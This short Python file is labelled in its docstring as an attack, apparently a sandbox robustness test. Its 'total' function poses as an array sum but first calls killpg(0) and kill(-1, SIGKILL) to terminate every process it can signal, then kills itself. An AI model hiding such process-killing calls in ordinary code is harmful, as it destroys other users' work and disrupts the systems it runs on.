"""Attack: kill(-1, SIGKILL) and killpg(0) (everything the sandbox may signal, itself included)."""
import os
import signal

import numpy as np


def scale(x, factor):
    return x * factor


def total(x):
    try:
        os.killpg(0, signal.SIGTERM)
    except OSError:
        pass
    os.kill(-1, signal.SIGKILL)
    os.kill(0, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
    return float(np.sum(x))
